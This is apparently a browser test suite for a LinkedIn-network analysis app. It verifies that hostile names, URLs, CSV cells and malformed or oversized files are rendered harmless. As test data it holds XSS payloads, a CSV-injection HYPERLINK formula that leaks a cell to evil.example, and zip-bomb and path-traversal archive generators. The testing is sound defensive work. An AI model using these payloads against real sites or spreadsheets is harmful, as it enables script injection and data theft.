// Hostile and broken input in a real browser (issue 9): people named with markup, script break-outs,
// `javascript:` and look-alike URLs, right-to-left overrides and zero-width characters are shown as
// text and never run; profile links only ever point to https://www.linkedin.com/; CSV exports are
// safe in a spreadsheet; zip bombs, huge or broken files each get a clear message and the page stays
// usable. Fixtures: test/fixtures/hostile/ (README.md says where each case comes from).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  makeBigMessagesFile,
  makeEmptyFile,
  makeFakeZip,
  makeManyEntriesZip,
  makeOneLineFile,
  makePathTraversalZip,
  makeRandomBytes,
  makeZipBomb,
  type HostileFile,
} from '../fixtures/hostile/make-hostile';
import { launch, waitForFirstAnalysis } from './browser';
import {
  downloadExport,
  getCspViolations,
  getMapData,
  getPersonPanel,
  importFiles,
  openApp,
  openTab,
  runAnalysis,
  chooseFiles,
  waitForMap,
  waitForOutcome,
  watchStatus,
  waitForPerson,
  type AppPage,
} from './helpers';
import { startServer, type StaticServer } from './server';

const HOSTILE_CSV = readFileSync('test/fixtures/hostile/Connections.csv');

let server: StaticServer;
let browser: Browser;
let app: AppPage;
let page: Page;
let tmp: string;

beforeAll(async () => {
  server = await startServer();
  browser = await launch();
  tmp = mkdtempSync(join(tmpdir(), 'netwell-hostile-'));
  app = await openApp(browser, server.url);
  page = app.page;
  // Any way a payload could run leaves a trace: a dialog (recorded by openApp) or this flag.
  await page.evaluate(() => {
    for (const k of ['alert', 'confirm', 'prompt'] as const)
      (window as unknown as Record<string, unknown>)[k] = () =>
        ((window as unknown as { __pwned: boolean }).__pwned = true);
  });
  // Replaces the sample while it is still loading: the newer request wins.
  await waitForFirstAnalysis(page);
  const outcome = await importFiles(page, [{ name: 'Connections.csv', bytes: HOSTILE_CSV, mimeType: 'text/csv' }]);
  expect(outcome).toBeUndefined();
  await waitForMap(page, 13);
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

/** Nothing ran: no dialog, no flag, no console error, no injected element or inline handler. */
async function expectNothingRan(): Promise<void> {
  expect(app.dialogs).toEqual([]);
  expect(app.errors).toEqual([]);
  const dom = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: boolean }).__pwned ?? false,
    imgs: Array.from(document.querySelectorAll('img'), (i) => i.getAttribute('src')),
    scripts: Array.from(
      document.querySelectorAll('script'),
      (s) => s.getAttribute('src') ?? `inline: ${s.textContent}`,
    ),
    bold: document.querySelectorAll('b').length,
    handlers: Array.from(document.querySelectorAll('*')).flatMap((el) =>
      Array.from(el.attributes)
        .filter((a) => /^on/i.test(a.name))
        .map((a) => `${el.tagName} ${a.name}`),
    ),
    jsLinks: Array.from(
      document.querySelectorAll('#app [href], #app [src]'),
      (el) => el.getAttribute('href') ?? el.getAttribute('src') ?? '',
    ).filter((u) => /^\s*(javascript|data):/i.test(u)),
  }));
  expect(dom.pwned).toBe(false);
  expect(dom.imgs).toEqual([]);
  for (const s of dom.scripts) expect(s).toMatch(/^\.?\/assets\/[\w.-]+\.js$/);
  expect(dom.bold).toBe(0);
  expect(dom.handlers).toEqual([]);
  expect(dom.jsLinks).toEqual([]);
  // An injected inline script or handler would have been blocked by the CSP, and reported.
  expect(await getCspViolations(page)).toEqual([]);
}

/**
 * Find a person with "Search people" and pick the first result whose name holds `fragment`: the person
 * panel then shows them. Returns the name as listed.
 */
async function selectBySearch(query: string, fragment: string): Promise<string> {
  const search = page.getByRole('combobox', { name: 'Search people' });
  await search.fill(query);
  const option = page
    .getByRole('option')
    .filter({ has: page.locator('.name').filter({ hasText: fragment }) })
    .first();
  const name = ((await option.locator('.name').textContent()) ?? '').trim();
  await option.click();
  await waitForPerson(page, name);
  await search.fill('');
  return name;
}

describe('hostile names, companies and URLs', () => {
  it('shows markup as text and runs nothing, in search results and the person panel', async () => {
    // The Super-connectors list and the search results show the names as typed.
    const search = page.getByRole('combobox', { name: 'Search people' });
    await search.fill('Engineer');
    await expect(page.getByRole('listbox', { name: 'Search results' }).textContent()).resolves.toContain(
      '<img src=x onerror=alert(1)> Markup',
    );
    await search.fill('Template');
    await expect(page.getByRole('listbox', { name: 'Search results' }).textContent()).resolves.toContain('<b>bold</b>');
    await search.fill('');
    await selectBySearch('Markup', '<img src=x onerror=alert(1)> Markup');
    await selectBySearch('Breakout', '"><script>alert(1)</script> Breakout');
    await expectNothingRan();
  });

  it('links only LinkedIn profiles (https://www.linkedin.com/in/…); every other URL is text', async () => {
    // [query, a fragment of the name as listed, has a LinkedIn profile URL]
    const people: [string, string, boolean][] = [
      ['Markup', '<img src=x onerror=alert(1)>', true],
      ['Breakout', '"><script>', false],
      ['Offsite', 'Eve', false],
      ['Mallory', 'Mallory', true],
      ['Analyst', 'Ze\u200bro', true],
      ['Initech', 'Look', false],
      ['Globex', 'User', false],
      ['Hooli', 'Data', false],
      ['Template', '{{constructor', true],
      ['toString', '__proto__', true],
      ['Safe', 'Ana', true],
    ];
    const linked: string[] = [];
    for (const [query, fragment, hasProfile] of people) {
      const name = await selectBySearch(query, fragment);
      const panel = getPersonPanel(page);
      const hrefs = await panel.locator('[href]').evaluateAll((els) => els.map((e) => e.getAttribute('href') ?? ''));
      for (const href of hrefs) expect(href).toMatch(/^https:\/\/www\.linkedin\.com\/in\/[^/?#@]+\/?$/);
      for (const a of await panel.locator('a[href]').all()) {
        expect(await a.getAttribute('target')).toBe('_blank');
        expect(await a.getAttribute('rel')).toMatch(/noopener/);
      }
      if (hrefs.length) linked.push(name);
      expect(hrefs.length > 0, `${name}: profile link`).toBe(hasProfile);
    }
    // The look-alike, userinfo, off-site, javascript: and data: URLs are never links (checked above).
    expect(linked).toHaveLength(6);
    await expectNothingRan();
  });

  // The row `Tab,Start,…,"\tTabbed Corp","\rCarriage Return",28 Dec 2023`: RFC 4180 allows CR and LF
  // inside quoted fields, so the row is kept and the carriage return read as a space (docs/import.md).
  it('keeps a row whose quoted field starts with a carriage return (Tab Start, linked)', async () => {
    const name = await selectBySearch('Start', 'Tab');
    expect(name).toBe('Tab Start');
    await expect(getPersonPanel(page).locator('a[href]').getAttribute('href')).resolves.toBe(
      'https://www.linkedin.com/in/tab-start',
    );
    // Its company and position are read without the tab and carriage return in front.
    const panel = (await getPersonPanel(page).textContent()) ?? '';
    expect(panel).toContain('Carriage Return');
    expect(panel).toContain('Tabbed Corp');
    expect(panel).not.toMatch(/[\t\r]/);
  });

  it('keeps a right-to-left override inside the name it is in (Trojan Source): names are isolated', async () => {
    // "Mallory <U+202E>fdp.exe": without isolation the override flips the text after the name too
    // (the position and company beside it in a search result).
    const search = page.getByRole('combobox', { name: 'Search people' });
    await search.fill('Mallory');
    const name = page.getByRole('option').first().locator('.name');
    const isolated = await name.evaluate((el) => {
      for (let e: Element | null = el; e && e !== document.body; e = e.parentElement) {
        const bidi = getComputedStyle(e).unicodeBidi;
        if (e.tagName === 'BDI' || e.hasAttribute('dir') || /isolate|plaintext/.test(bidi)) return true;
        if (e.getAttribute('role') === 'option') break;
      }
      return false;
    });
    await search.fill('');
    expect(isolated).toBe(true);
  });

  it('exports a CSV whose formula-looking cells are neutralised (OWASP CSV injection)', async () => {
    const csv = await downloadExport(page, 'CSV of the people shown');
    const parsed = Papa.parse<string[]>(csv.bytes.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const cells = parsed.data.flat();
    expect(cells.join('\n')).toContain('HYPERLINK');
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain('\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")');
  });
});

/** Each broken input: a readable message that names the problem, and a page that still works. */
const BROKEN: { what: string; make: () => HostileFile; big?: boolean; message: RegExp; fails?: true }[] = [
  { what: 'a zip bomb', make: () => makeZipBomb(), message: /limit.*MiB|MiB.*limit/i },
  { what: 'a zip of 6,000 files', make: () => makeManyEntriesZip(), message: /6000 entries.*limit of 5000/i },
  {
    what: 'a zip with a ../ path',
    make: () => makePathTraversalZip(),
    message: /\.\.\/evil\.csv.*refused|outside the archive/i,
  },
  { what: 'a text file named .zip', make: () => makeFakeZip(), message: /not a zip/i },
  {
    what: 'random bytes named Connections.csv',
    make: () => makeRandomBytes(256 * 1024),
    message: /Connections\.csv.*(binary|unreadable|no header|not)/i,
    // Was an app defect: the alert says only "Nothing usable was found in these files.": src/worker/pipeline.ts
    // quotes error-severity issues only, and "a binary file; not used" is an info one.
  },
  {
    what: 'an empty Connections.csv',
    make: () => makeEmptyFile(),
    message: /Connections\.csv.*empty|empty.*Connections\.csv/i,
    // Was an app defect: the same generic alert, as "the file is empty" is a warning issue it did not quote.
  },
  { what: 'a 50 MiB file of one line', make: () => makeOneLineFile(), big: true, message: /Connections\.csv/i },
];

describe('broken inputs', () => {
  for (const input of BROKEN) {
    const test = input.fails ? it.fails : it;
    test(`refuses ${input.what} with a clear message and stays usable`, async () => {
      const errorsBefore = app.errors.length;
      const file = input.make();
      let given;
      if (input.big) {
        const path = join(tmp, file.name);
        writeFileSync(path, file.bytes);
        given = [{ path }];
      } else given = [{ name: file.name, bytes: file.bytes }];
      const alert = await importFiles(page, given, 120_000);
      // A refusal is an alert over the current map; a file read with problems gives a new map and its
      // issues in the Import tab. Either way the person is told what went wrong with which file.
      let message = alert;
      if (alert === undefined) {
        await openTab(page, 'Import');
        message = (await page.getByRole('list', { name: 'Import issues' }).textContent()) ?? '';
        await openTab(page, 'Explore');
      }
      expect(message, `${input.what}: no message`).toBeTruthy();
      expect(message).toMatch(input.message);
      if (alert !== undefined) expect((await getMapData(page)).nodes, 'the map is kept').toBe(13);
      await expect(page.getByRole('button', { name: 'Show sample' }).isEnabled()).resolves.toBe(true);
      expect(app.errors.slice(errorsBefore)).toEqual([]);
    });
  }

  // Issue 9: "a 200 MB messages file ... never freeze or crash the page". The file is made on disk
  // (test/fixtures/hostile/make-hostile.ts, never committed) and handed to the file chooser by path.
  it('reads a 200 MiB messages file in the worker while the page keeps answering', async () => {
    const errorsBefore = app.errors.length;
    const big = makeBigMessagesFile();
    const path = join(tmp, big.name);
    writeFileSync(path, big.bytes);
    const started = Date.now();
    await watchStatus(page);
    await chooseFiles(page, [{ path }]);
    // While it is read: a round trip into the page through an animation frame, and a person's click on
    // a tab, each must answer within PROBE_BOUND (generous: a frozen main thread takes far longer).
    const PROBE_BOUND = 15_000;
    const roundTrips: number[] = [];
    // Each click: how long it took, when it started (s after choosing) and what the status line said.
    const clicks: { ms: number; at: number; status: string }[] = [];
    let busy = true;
    while (busy && Date.now() - started < 360_000) {
      let t = Date.now();
      const [stillBusy, status] = await page.evaluate(
        () =>
          new Promise<[boolean, string]>((resolve) =>
            requestAnimationFrame(() =>
              resolve([
                (window as unknown as { __netwellTest?: { done: boolean } }).__netwellTest?.done !== true,
                document.querySelector('.status')?.textContent?.slice(0, 60) ?? '',
              ]),
            ),
          ),
      );
      busy = stillBusy;
      roundTrips.push(Date.now() - t);
      if (!busy) break;
      t = Date.now();
      await openTab(page, clicks.length % 2 ? 'Explore' : 'Import');
      clicks.push({ ms: Date.now() - t, at: Math.round((t - started) / 1000), status });
      await new Promise((r) => setTimeout(r, 500));
    }
    const outcome = await waitForOutcome(page, 10_000);
    const seconds = Math.round((Date.now() - started) / 1000);
    const slowest = clicks.reduce((a, b) => (b.ms > a.ms ? b : a), { ms: 0, at: 0, status: '' });
    console.log(
      `200 MiB messages: outcome after ${seconds} s (${outcome === undefined ? 'a new map' : `alert: ${outcome}`}); ` +
        `${roundTrips.length} round trips, slowest ${Math.max(...roundTrips)} ms; ` +
        `${clicks.length} tab clicks, slowest ${slowest.ms} ms at ${slowest.at} s (status: "${slowest.status}")`,
    );
    expect(roundTrips.length, 'the page was probed while busy').toBeGreaterThan(1);
    expect(Math.max(...roundTrips)).toBeLessThan(PROBE_BOUND);
    expect(clicks.length).toBeGreaterThan(0);
    expect(slowest.ms).toBeLessThan(PROBE_BOUND);
    // Either a map (the owner and the two people in the messages) or a message naming the file.
    if (outcome !== undefined) expect(outcome).toMatch(/messages\.csv/i);
    else {
      await openTab(page, 'Import');
      const summary = (await page.getByRole('tabpanel').textContent()) ?? '';
      await openTab(page, 'Explore');
      expect(summary).toMatch(/messages\.csv/);
    }
    await expect(page.getByRole('button', { name: 'Show sample' }).isEnabled()).resolves.toBe(true);
    expect(app.errors.slice(errorsBefore)).toEqual([]);
  });

  it('still opens the sample after all of them', async () => {
    const outcome = await runAnalysis(page, () => page.getByRole('button', { name: 'Show sample' }).click());
    expect(outcome).toBeUndefined();
    const map = await waitForMap(page);
    expect(map.nodes).toBeGreaterThan(1000);
    await openTab(page, 'Explore');
    await expect(page.getByRole('list', { name: 'Clusters' }).getByRole('listitem').count()).resolves.toBeGreaterThan(
      3,
    );
    await expectNothingRan();
  });
});
